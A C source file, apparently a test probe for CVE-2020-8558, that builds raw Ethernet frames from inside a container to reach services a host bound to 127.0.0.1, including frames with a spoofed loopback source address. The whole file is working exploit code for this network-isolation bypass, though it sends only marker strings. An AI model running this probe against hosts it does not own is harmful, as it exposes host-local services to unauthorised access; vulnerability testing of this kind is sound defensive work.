// localnet PORT: from inside a container on a bridge network, try to reach what the host bound to
// 127.0.0.1 only (CVE-2020-8558). The container's own routes never send 127.0.0.1 out, so the
// probe builds Ethernet frames by hand and sends them to the gateway's MAC address through an
// AF_PACKET socket (CAP_NET_RAW, which a default container has):
//   LOCALNET  to 127.0.0.1:PORT from the container's address   (reaching the host's loopback)
//   SPOOFED   to GATEWAY:PORT   from 127.0.0.1                  (posing as the host's loopback)
//   CONTROL   to GATEWAY:PORT   from the container's address   (must arrive: the path works)
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

static uint32_t gateway_address(void) {
    FILE *routes = fopen("/proc/net/route", "r");
    char line[256], name[32];
    unsigned int destination, gateway;
    while (routes && fgets(line, sizeof line, routes)) {
        if (sscanf(line, "%31s %x %x", name, &destination, &gateway) == 3 && destination == 0) return gateway;
    }
    return 0;
}

// The gateway's MAC from the neighbour table, after a datagram made the kernel ask for it.
static int gateway_mac(uint32_t gateway, unsigned char mac[6]) {
    int sock = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = gateway };
    char wanted[32];
    inet_ntop(AF_INET, &gateway, wanted, sizeof wanted);
    for (int attempt = 0; attempt < 50; attempt++) {
        sendto(sock, "", 0, 0, (struct sockaddr *)&to, sizeof to);
        usleep(20000);
        FILE *arp = fopen("/proc/net/arp", "r");
        char line[256], ip[32], hw[32];
        while (arp && fgets(line, sizeof line, arp)) {
            unsigned int m[6];
            if (sscanf(line, "%31s %*s %*s %31s", ip, hw) == 2 && strcmp(ip, wanted) == 0 &&
                sscanf(hw, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) == 6 &&
                (m[0] | m[1] | m[2] | m[3] | m[4] | m[5]) != 0) {
                for (int i = 0; i < 6; i++) mac[i] = (unsigned char)m[i];
                fclose(arp);
                return 0;
            }
        }
        if (arp) fclose(arp);
    }
    return -1;
}

static uint16_t checksum(const void *data, size_t length) {
    const uint16_t *words = data;
    uint32_t sum = 0;
    for (size_t i = 0; i < length / 2; i++) sum += words[i];
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

static void send_frame(int sock, struct sockaddr_ll *link, const unsigned char own_mac[6],
                       uint32_t source, uint32_t destination, int port, const char *payload) {
    unsigned char frame[128];
    memset(frame, 0, sizeof frame);
    struct ether_header *eth = (struct ether_header *)frame;
    memcpy(eth->ether_dhost, link->sll_addr, 6);
    memcpy(eth->ether_shost, own_mac, 6);
    eth->ether_type = htons(ETHERTYPE_IP);
    struct iphdr *ip = (struct iphdr *)(frame + sizeof *eth);
    struct udphdr *udp = (struct udphdr *)((unsigned char *)ip + sizeof *ip);
    size_t length = strlen(payload);
    memcpy((unsigned char *)udp + sizeof *udp, payload, length);
    ip->version = 4;
    ip->ihl = 5;
    ip->ttl = 64;
    ip->protocol = IPPROTO_UDP;
    ip->tot_len = htons((uint16_t)(sizeof *ip + sizeof *udp + length));
    ip->saddr = source;
    ip->daddr = destination;
    ip->check = checksum(ip, sizeof *ip);
    udp->source = htons(40000);
    udp->dest = htons((uint16_t)port);
    udp->len = htons((uint16_t)(sizeof *udp + length));
    udp->check = 0;   // optional in IPv4
    size_t total = sizeof *eth + sizeof *ip + sizeof *udp + length;
    if (sendto(sock, frame, total, 0, (struct sockaddr *)link, sizeof *link) < 0) perror("sendto");
}

int main(int argc, char **argv) {
    int port = argc > 1 ? atoi(argv[1]) : 5555;
    uint32_t gateway = gateway_address();
    struct ifreq request;
    memset(&request, 0, sizeof request);
    strcpy(request.ifr_name, "eth0");
    int sock = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
    if (sock < 0 || gateway == 0) { perror("socket or no default route"); return 1; }
    if (ioctl(sock, SIOCGIFINDEX, &request) != 0) { perror("SIOCGIFINDEX"); return 1; }
    int index = request.ifr_ifindex;
    if (ioctl(sock, SIOCGIFHWADDR, &request) != 0) { perror("SIOCGIFHWADDR"); return 1; }
    unsigned char own_mac[6];
    memcpy(own_mac, request.ifr_hwaddr.sa_data, 6);
    int inet = socket(AF_INET, SOCK_DGRAM, 0);
    if (ioctl(inet, SIOCGIFADDR, &request) != 0) { perror("SIOCGIFADDR"); return 1; }
    uint32_t own = ((struct sockaddr_in *)&request.ifr_addr)->sin_addr.s_addr;
    struct sockaddr_ll link = { .sll_family = AF_PACKET, .sll_ifindex = index, .sll_halen = 6,
                                .sll_protocol = htons(ETH_P_IP) };
    if (gateway_mac(gateway, link.sll_addr) != 0) { fprintf(stderr, "no MAC for the gateway\n"); return 1; }
    send_frame(sock, &link, own_mac, own, htonl(INADDR_LOOPBACK), port, "LOCALNET");
    send_frame(sock, &link, own_mac, htonl(INADDR_LOOPBACK), gateway, port, "SPOOFED");
    send_frame(sock, &link, own_mac, own, gateway, port, "CONTROL");
    printf("sent\n");
    return 0;
}
